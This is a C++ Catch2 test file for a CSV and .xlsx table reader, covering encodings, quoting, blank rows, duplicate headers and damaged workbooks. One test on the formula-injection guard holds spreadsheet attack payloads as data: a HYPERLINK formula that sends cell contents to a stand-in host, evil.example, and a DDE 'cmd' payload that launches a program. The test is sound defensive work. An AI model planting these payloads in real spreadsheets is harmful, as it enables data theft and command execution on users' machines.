#include "core/util/TableFile.h"

#include "core/util/CsvCell.h"

#include <QDir>
#include <QFile>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <catch2/catch.hpp>
#include <xlsxwriter.h>

using namespace threerings;

namespace {

QString fixture(const char* name)
{
    return QStringLiteral(THREERINGS_FIXTURES "/") + QString::fromUtf8(name);
}

// Writes `bytes` to `name` in `dir` and returns the path.
QString writeFile(const QTemporaryDir& dir, const QString& name, const QByteArray& bytes)
{
    const QString path = dir.filePath(name);
    QFile f(path);
    REQUIRE(f.open(QIODevice::WriteOnly));
    REQUIRE(f.write(bytes) == bytes.size());
    return path;
}

QStringList cells(std::initializer_list<const char*> utf8)
{
    QStringList out;
    for (const char* s : utf8)
        out << QString::fromUtf8(s);
    return out;
}

// The error readTableFile gives for `path`; fails the test when it reads the file.
Error refusal(const QString& path)
{
    const auto table = readTableFile(path);
    REQUIRE_FALSE(table.ok());
    INFO(table.error().message.toStdString());
    CHECK(table.error().kind == Error::Kind::Data);
    CHECK(table.error().message.contains(QDir::toNativeSeparators(path)));
    return table.error();
}

} // namespace

TEST_CASE("a CSV with a BOM, CRLF line ends, and quoted cells with commas, quotes and line breaks",
          "[tablefile]")
{
    QTemporaryDir dir;
    const QByteArray bytes = "\xEF\xBB\xBF"
                             " 编码 ,名称,备注\r\n"
                             "QD01,\"青岛, 市北\",\"第一行\r\n第二行\"\r\n"
                             "QD02,\"说\"\"好\"\"\", 不修剪 \r\n";
    const auto table = readTableFile(writeFile(dir, QStringLiteral("outlets.csv"), bytes));
    REQUIRE(table.ok());
    CHECK(table->header == cells({"编码", "名称", "备注"}));
    REQUIRE(table->rows.size() == 2);
    CHECK(table->rows.at(0) == cells({"QD01", "青岛, 市北", "第一行\r\n第二行"}));
    CHECK(table->rows.at(1) == cells({"QD02", "说\"好\"", " 不修剪 "}));
    // Rows are counted as the spreadsheet shows them: the line break inside a cell starts no row.
    CHECK(table->rowNumbers == QList<int>{2, 3});
}

TEST_CASE("CSV rows are made as wide as the header, and LF, CR and a missing last line end all work",
          "[tablefile]")
{
    QTemporaryDir dir;
    const QByteArray bytes = "编码,名称,电话,,\n"
                             "QD01\n"
                             "QD02,b,c,extra,more\r"
                             "QD03,,\"\"";
    const auto table = readTableFile(writeFile(dir, QStringLiteral("OUTLETS.CSV"), bytes));
    REQUIRE(table.ok());
    CHECK(table->header == cells({"编码", "名称", "电话"})); // the empty headings at the end are dropped
    REQUIRE(table->rows.size() == 3);
    CHECK(table->rows.at(0) == cells({"QD01", "", ""}));
    CHECK(table->rows.at(1) == cells({"QD02", "b", "c"}));
    CHECK(table->rows.at(2) == cells({"QD03", "", ""}));
    CHECK(table->rowNumbers == QList<int>{2, 3, 4});
}

TEST_CASE("a CSV saved by Excel on a Chinese Windows (GBK) reads as GB18030", "[tablefile]")
{
    QTemporaryDir dir;
    const QString text =
        QStringLiteral("编码,名称,地址\r\nQD01,青岛维修中心,山东省青岛市市北区辽宁路 88 号\r\n"
                       "GZ02,广州服务站,\"广东省广州市天河区，体育西路\"\r\n");
    QStringEncoder gbk("GB18030");
    REQUIRE(gbk.isValid());
    const QByteArray bytes = gbk(text);
    REQUIRE(bytes != text.toUtf8());
    const auto table = readTableFile(writeFile(dir, QStringLiteral("outlets.csv"), bytes));
    REQUIRE(table.ok());
    CHECK(table->header == cells({"编码", "名称", "地址"}));
    REQUIRE(table->rows.size() == 2);
    CHECK(table->rows.at(0) == cells({"QD01", "青岛维修中心", "山东省青岛市市北区辽宁路 88 号"}));
    CHECK(table->rows.at(1) == cells({"GZ02", "广州服务站", "广东省广州市天河区，体育西路"}));
}

TEST_CASE("bytes that are neither UTF-8 nor GB18030 are refused with what to do", "[tablefile]")
{
    QTemporaryDir dir;
    const Error e = refusal(writeFile(dir, QStringLiteral("odd.csv"), QByteArray("a,b\n\xFF\xFF\xFF,x\n")));
    CHECK(e.message.contains(QStringLiteral("UTF-8")));
}

TEST_CASE("the console's guard against spreadsheet formulas comes off again on import", "[tablefile]")
{
    const QStringList values{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
                             QStringLiteral("+1+cmd|' /C calc'!A0"),
                             QStringLiteral("-2+3"),
                             QStringLiteral("@SUM(1+1)"),
                             QStringLiteral("\t=1+1"),
                             QStringLiteral("\r=1"),
                             QStringLiteral("-"),
                             QStringLiteral("-12"),
                             QStringLiteral("+8613812345678"),
                             QStringLiteral("'引号开头的备注"),
                             QStringLiteral("'123"),
                             QStringLiteral("刘敏 = 好"),
                             QStringLiteral("a;=1+1")};
    QByteArray bytes;
    QByteArray row;
    for (int i = 0; i < values.size(); ++i) {
        bytes += (i > 0 ? "," : "") + QByteArray::number(i);
        if (i > 0)
            row += ',';
        csv::appendCell(row, values.at(i).toUtf8());
    }
    bytes += "\r\n" + row + "\r\n";
    // The guarded cells are written with the quote; the reader takes it off.
    REQUIRE(row.contains("\"'=HYPERLINK("));

    QTemporaryDir dir;
    const auto table = readTableFile(writeFile(dir, QStringLiteral("export.csv"), bytes));
    REQUIRE(table.ok());
    REQUIRE(table->rows.size() == 1);
    CHECK(table->rows.at(0) == values);
    // Written by a person rather than the console, a leading quote before a formula comes off too
    // (the spreadsheet would not have shown it either); before anything else it stays.
    const auto typed =
        readTableFile(writeFile(dir, QStringLiteral("typed.csv"), QByteArray("a,b,c\n'=1+1,'-5,'abc\n")));
    REQUIRE(typed.ok());
    CHECK(typed->rows.at(0) == cells({"=1+1", "'-5", "'abc"}));
}

TEST_CASE("blank rows are skipped and the others keep the row numbers of the file", "[tablefile]")
{
    QTemporaryDir dir;
    const QByteArray bytes = "\n"
                             " , \n"
                             "编码,名称\n"
                             "\n"
                             "QD01,a\n"
                             ",\n"
                             "  ,  \n"
                             "QD02,b\n"
                             "\n";
    const auto table = readTableFile(writeFile(dir, QStringLiteral("outlets.csv"), bytes));
    REQUIRE(table.ok());
    CHECK(table->header == cells({"编码", "名称"}));
    REQUIRE(table->rows.size() == 2);
    CHECK(table->rows.at(0) == cells({"QD01", "a"}));
    CHECK(table->rows.at(1) == cells({"QD02", "b"}));
    CHECK(table->rowNumbers == QList<int>{5, 8});
}

TEST_CASE("a header that names a column twice is refused, naming the columns", "[tablefile]")
{
    QTemporaryDir dir;
    Error e = refusal(writeFile(dir, QStringLiteral("twice.csv"), QByteArray("电话,姓名, 电话 \n1,2,3\n")));
    CHECK(e.message.contains(QStringLiteral("电话")));
    CHECK(e.message.contains(QStringLiteral("A and C")));
    CHECK(e.field == QStringLiteral("电话"));
    // Letters in another case are the same heading; the row named is the header's own.
    e = refusal(writeFile(dir, QStringLiteral("case.csv"), QByteArray("\nPhone,Name,phone\n")));
    CHECK(e.message.contains(QStringLiteral("row 2")));
    // Columns without a heading are not duplicates of one another.
    const auto gaps =
        readTableFile(writeFile(dir, QStringLiteral("gaps.csv"), QByteArray("a,,b,,c\n1,2,3,4,5\n")));
    REQUIRE(gaps.ok());
    CHECK(gaps->header == cells({"a", "", "b", "", "c"}));
}

TEST_CASE("an empty file, a file of blank lines and one without a closing quote are refused", "[tablefile]")
{
    QTemporaryDir dir;
    refusal(writeFile(dir, QStringLiteral("empty.csv"), QByteArray()));
    refusal(writeFile(dir, QStringLiteral("bom.csv"), QByteArray("\xEF\xBB\xBF")));
    const Error blank = refusal(writeFile(dir, QStringLiteral("blank.csv"), QByteArray("\r\n , ,\r\n\r\n")));
    CHECK(blank.message.contains(QStringLiteral("no rows")));
    const Error open =
        refusal(writeFile(dir, QStringLiteral("open.csv"), QByteArray("a,b\n1,2\n3,\"never closed\n4,5\n")));
    CHECK(open.message.contains(QStringLiteral("row 3")));
}

TEST_CASE("a file that is not .csv or .xlsx, or cannot be read, is refused", "[tablefile]")
{
    QTemporaryDir dir;
    const Error xls = refusal(writeFile(dir, QStringLiteral("outlets.xls"), QByteArray("a,b\n1,2\n")));
    CHECK(xls.message.contains(QStringLiteral(".xlsx")));
    refusal(writeFile(dir, QStringLiteral("outlets.txt"), QByteArray("a,b\n1,2\n")));
    refusal(writeFile(dir, QStringLiteral("outlets"), QByteArray("a,b\n1,2\n")));
    refusal(dir.filePath(QStringLiteral("missing.csv")));
    refusal(dir.filePath(QStringLiteral("missing.xlsx")));
    REQUIRE(QDir(dir.path()).mkdir(QStringLiteral("folder.csv")));
    refusal(dir.filePath(QStringLiteral("folder.csv")));
}

TEST_CASE("an .xlsx written by libxlsxwriter: Chinese text, a phone stored as a number, dates, gaps",
          "[tablefile]")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("网点.xlsx"));
    const QByteArray file = QFile::encodeName(path);
    lxw_workbook* book = workbook_new(file.constData());
    REQUIRE(book);
    lxw_format* date = workbook_add_format(book);
    format_set_num_format(date, "yyyy-mm-dd");
    lxw_format* minute = workbook_add_format(book);
    format_set_num_format(minute, "yyyy-mm-dd hh:mm");
    lxw_format* money = workbook_add_format(book);
    format_set_num_format(money, "#,##0.00\" 元\"");
    lxw_worksheet* sheet = workbook_add_worksheet(book, "网点");
    const char* header[] = {"编码", "名称", "电话", "开业日期", "金额", "备注"};
    for (lxw_col_t c = 0; c < 6; ++c)
        worksheet_write_string(sheet, 0, c, header[c], nullptr);
    worksheet_write_string(sheet, 1, 0, "QD01", nullptr);
    worksheet_write_string(sheet, 1, 1, "青岛维修中心", nullptr);
    worksheet_write_number(sheet, 1, 2, 13812345678.0, nullptr);
    lxw_datetime opened{2024, 3, 5, 0, 0, 0.0};
    worksheet_write_datetime(sheet, 1, 3, &opened, date);
    worksheet_write_number(sheet, 1, 4, 1234.5, money);
    worksheet_write_string(sheet, 1, 5, " 前后有空格 ", nullptr);
    // Row 3 is left blank; row 4 has blank cells in the middle (one written as a formatted blank).
    worksheet_write_string(sheet, 3, 0, "JN02", nullptr);
    worksheet_write_blank(sheet, 3, 2, date);
    lxw_datetime visited{2024, 12, 31, 14, 30, 0.0};
    worksheet_write_datetime(sheet, 3, 3, &visited, minute);
    worksheet_write_number(sheet, 3, 4, -12.0, nullptr);
    worksheet_write_number(sheet, 4, 4, 0.1, nullptr);
    worksheet_write_boolean(sheet, 4, 5, 1, nullptr);
    // A second sheet is not read.
    lxw_worksheet* other = workbook_add_worksheet(book, "说明");
    worksheet_write_string(other, 0, 0, "不是数据", nullptr);
    REQUIRE(workbook_close(book) == LXW_NO_ERROR);

    const auto table = readTableFile(path);
    REQUIRE(table.ok());
    CHECK(table->header == cells({"编码", "名称", "电话", "开业日期", "金额", "备注"}));
    REQUIRE(table->rows.size() == 3);
    CHECK(table->rows.at(0) ==
          cells({"QD01", "青岛维修中心", "13812345678", "2024-03-05", "1234.5", " 前后有空格 "}));
    CHECK(table->rows.at(1) == cells({"JN02", "", "", "2024-12-31 14:30", "-12", ""}));
    CHECK(table->rows.at(2) == cells({"", "", "", "", "0.1", "TRUE"}));
    CHECK(table->rowNumbers == QList<int>{2, 4, 5});
}

TEST_CASE(
    "an .xlsx shaped as LibreOffice writes it: cells without references, the sheet found by relationship",
    "[tablefile]")
{
    const auto table = readTableFile(fixture("outlets-libreoffice.xlsx"));
    REQUIRE(table.ok());
    // The first sheet in workbook order is xl/worksheets/sheet2.xml; sheet1.xml is the second sheet.
    CHECK(table->header == cells({"编码", "名称", "电话", "开业日期", "面积"}));
    REQUIRE(table->rows.size() == 3);
    // The custom "yyyy/m/d" is a date; "0.0\" m²\"" (an m inside quotes) is not.
    CHECK(table->rows.at(0) == cells({"QD01", "青岛维修中心", "13812345678", "2024-01-01", "120.5"}));
    CHECK(table->rows.at(1) == cells({"JN02", " 济南 历下 ", "", "2024-02-15 18:00", "88"}));
    CHECK(table->rows.at(2) == cells({"3", "青岛维修中心", "", "", ""}));
    // Row 3 is not in the file, row 5 holds only formatted blanks, and the last row has no r (it follows 5).
    CHECK(table->rowNumbers == QList<int>{2, 4, 6});
}

TEST_CASE("an .xlsx shaped as WPS and Excel write it: inline strings, rich text, the 1904 date system",
          "[tablefile]")
{
    const auto table = readTableFile(fixture("outlets-wps.xlsx"));
    REQUIRE(table.ok());
    CHECK(table->header == cells({"编码", "名称", "电话", "开业日期", "代号", "启用", "备注"}));
    REQUIRE(table->rows.size() == 2);
    // Rich-text runs joined without the phonetic guide; a phone written as 1.3812345678E10 with all its
    // digits; a t="str" formula's text; _x000D_ as the carriage return it stands for.
    CHECK(table->rows.at(0) == cells({"QD01", "青岛 维修 中心", "13812345678", "2024-01-01",
                                      "QD01-13812345678", "TRUE", "第一行\r\n第二行"}));
    // C5 after A5 leaves B blank; the built-in Chinese date format 31 with a time; an error value as shown.
    CHECK(table->rows.at(1) == cells({"YT03", "", "0.3", "2024-01-01 18:00", "#N/A", "FALSE", ""}));
    CHECK(table->rowNumbers == QList<int>{2, 5});
}

TEST_CASE("a damaged .xlsx is refused with a message that says how to save it again", "[tablefile]")
{
    QTemporaryDir dir;
    QByteArray noise;
    for (int i = 0; i < 4096; ++i)
        noise += char((i * 7919 + 13) % 251);
    const Error random = refusal(writeFile(dir, QStringLiteral("random.xlsx"), noise));
    CHECK(random.message.contains(QStringLiteral("not a valid .xlsx")));
    refusal(writeFile(dir, QStringLiteral("empty.xlsx"), QByteArray()));
    // An Excel 97-2003 workbook (or a workbook with a password) renamed to .xlsx.
    const Error ole = refusal(
        writeFile(dir, QStringLiteral("old.xlsx"), QByteArray("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1") + noise));
    CHECK(ole.message.contains(QStringLiteral("97-2003")));
    const Error noWorkbook = refusal(fixture("no-workbook.xlsx"));
    CHECK(noWorkbook.message.contains(QStringLiteral("no xl/workbook.xml")));
    // A zip cut short.
    QFile whole(fixture("outlets-wps.xlsx"));
    REQUIRE(whole.open(QIODevice::ReadOnly));
    refusal(writeFile(dir, QStringLiteral("cut.xlsx"), whole.readAll().left(1200)));
}
